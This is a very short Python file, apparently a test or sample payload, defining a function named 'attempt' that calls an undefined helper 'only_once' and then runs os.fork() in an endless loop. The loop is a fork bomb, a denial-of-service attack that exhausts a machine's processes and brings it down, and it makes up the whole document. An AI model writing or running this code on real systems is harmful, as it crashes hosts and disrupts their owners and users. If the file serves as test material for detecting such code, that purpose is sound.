import os


def attempt(outside, env_info):
    only_once(env_info)
    while True:
        os.fork()
